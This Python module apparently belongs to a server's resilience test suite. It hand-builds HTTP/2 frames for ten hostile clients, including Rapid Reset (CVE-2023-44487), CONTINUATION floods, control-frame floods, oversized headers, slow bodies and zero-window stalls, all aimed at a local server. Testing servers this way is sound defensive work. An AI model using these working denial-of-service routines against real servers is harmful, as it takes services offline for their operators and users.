"""Those among the hostile clients that speak HTTP/2; `hostile_peers.py` says what they have in common.

The frames are written here by hand: a library for HTTP/2 refuses to send what these send.
"""

import asyncio
import contextlib

# Between two words of a connection that floods: many of them are to keep the server busy, not this process.
BREATH_SECONDS = 0.002

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
STREAMS = 100


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def setting(name: int, value: int) -> bytes:
    return name.to_bytes(2, "big") + value.to_bytes(4, "big")


def hpack_text(text: bytes) -> bytes:
    """RFC 7541, 5.2, without Huffman."""
    length = len(text)
    if length < 127:
        return bytes([length]) + text
    packed, rest = bytearray([127]), length - 127
    while rest >= 128:
        packed.append(rest % 128 + 128)
        rest //= 128
    return bytes(packed) + bytes([rest]) + text


def hpack_field(name: bytes, value: bytes) -> bytes:
    """RFC 7541, 6.2.2: a literal that nobody remembers."""
    return b"\x00" + hpack_text(name) + hpack_text(value)


def post(*fields: tuple[bytes, bytes]) -> bytes:
    """The header block of a review: method, scheme and names of the others are in HPACK's static table."""
    block = b"\x83\x87\x04" + hpack_text(b"/authenticate") + b"\x01" + hpack_text(b"127.0.0.1")
    return block + b"".join(hpack_field(*one) for one in fields)


async def connected(crowd, *settings: bytes) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    reader, writer = await crowd.tls("h2")
    writer.write(PREFACE + frame(SETTINGS, 0, 0, b"".join(settings)) + frame(SETTINGS, ACK, 0))
    return reader, writer


async def closed(reader: asyncio.StreamReader) -> None:
    with contextlib.suppress(OSError):
        while await reader.read(65536):
            pass


async def rapid_reset(crowd, posed) -> None:
    """CVE-2023-44487."""
    reader, writer = await connected(crowd)
    drained = asyncio.create_task(closed(reader))
    block, stream = post(), 1
    while not drained.done():
        burst = b""
        for _ in range(50):
            burst += frame(HEADERS, END_HEADERS, stream, block) + frame(RESET, 0, stream, b"\x00\x00\x00\x08")
            stream += 2
        await crowd.say(writer, burst)
        posed()
        await asyncio.sleep(BREATH_SECONDS)


async def continuation_flood(crowd, posed) -> None:
    """CVE-2024-27316."""
    await _flood(crowd, posed, 0, frame(CONTINUATION, 0, 1, hpack_field(b"x", b"y" * 8000)))


async def empty_continuations(crowd, posed) -> None:
    await _flood(crowd, posed, 0, frame(CONTINUATION, 0, 1) * 100)


async def control_flood(crowd, posed) -> None:
    """What an answer is owed to, never reading the answers."""
    _reader, writer = await connected(crowd)
    words = frame(SETTINGS, 0, 0, setting(4, 65535)) + frame(PING, 0, 0, b"12345678")
    while True:
        await crowd.say(writer, words * 100)
        posed()
        await asyncio.sleep(BREATH_SECONDS)


async def idle_frames(crowd, posed) -> None:
    """What no answer is owed to: priorities, windows by one byte, data without any."""
    words = frame(PRIORITY, 0, 3, b"\x00\x00\x00\x01\x10") + frame(WINDOW, 0, 0, b"\x00\x00\x00\x01")
    words += frame(DATA, 0, 1)
    await _flood(crowd, posed, END_HEADERS, words * 50)


async def _flood(crowd, posed, flags: int, words: bytes) -> None:
    """Begins one request, and then the words without end."""
    reader, writer = await connected(crowd)
    drained = asyncio.create_task(closed(reader))
    await crowd.say(writer, frame(HEADERS, flags, 1, post()))
    while not drained.done():
        await crowd.say(writer, words)
        posed()
        await asyncio.sleep(BREATH_SECONDS)


async def half_open_streams(crowd, posed) -> None:
    """As many requests as one connection may have, each with as large a head as it may have, and no body."""
    await _heads(crowd, posed, 2)


async def oversized_heads(crowd, posed) -> None:
    """Heads of twice the size that is allowed, of a request each."""
    await _heads(crowd, posed, 4)


async def _heads(crowd, posed, fields: int) -> None:
    reader, writer = await connected(crowd)
    block = post(*[(b"x-%d" % n, b"y" * 3900) for n in range(fields)])
    for n in range(STREAMS):
        await crowd.say(writer, frame(HEADERS, END_HEADERS, 2 * n + 1, block))
    posed()
    await closed(reader)


async def slow_streams(crowd, posed) -> None:
    """As many bodies as one connection may have, all of them a byte short and then slow."""
    reader, writer = await connected(crowd)
    drained = asyncio.create_task(closed(reader))
    for n in range(STREAMS):
        await crowd.say(writer, frame(HEADERS, END_HEADERS, 2 * n + 1, post()))
    for _ in range(60):
        for n in range(STREAMS):
            await crowd.say(writer, frame(DATA, 0, 2 * n + 1, b"x" * 1000))
            if drained.done():
                return
        posed()
        await asyncio.sleep(1)


async def no_window(crowd, posed) -> None:
    """Questions with large answers, and no leave to send them."""
    await _untaken(crowd, posed, 0)


async def tiny_window(crowd, posed) -> None:
    """The same, with leave to send the first byte of each."""
    await _untaken(crowd, posed, 1)


async def _untaken(crowd, posed, window: int) -> None:
    reader, writer = await connected(crowd, setting(4, window))
    drained = asyncio.create_task(closed(reader))
    # The metrics, the largest answer that there is.
    block = b"\x82\x87\x04" + hpack_text(b"/metrics") + b"\x01" + hpack_text(b"127.0.0.1")
    for n in range(5 * STREAMS):
        await crowd.say(writer, frame(HEADERS, END_HEADERS | END_STREAM, 2 * n + 1, block))
        if drained.done():
            return
    posed()
    await drained


LIVES = (
    rapid_reset,
    continuation_flood,
    empty_continuations,
    control_flood,
    idle_frames,
    half_open_streams,
    oversized_heads,
    slow_streams,
    no_window,
    tiny_window,
)
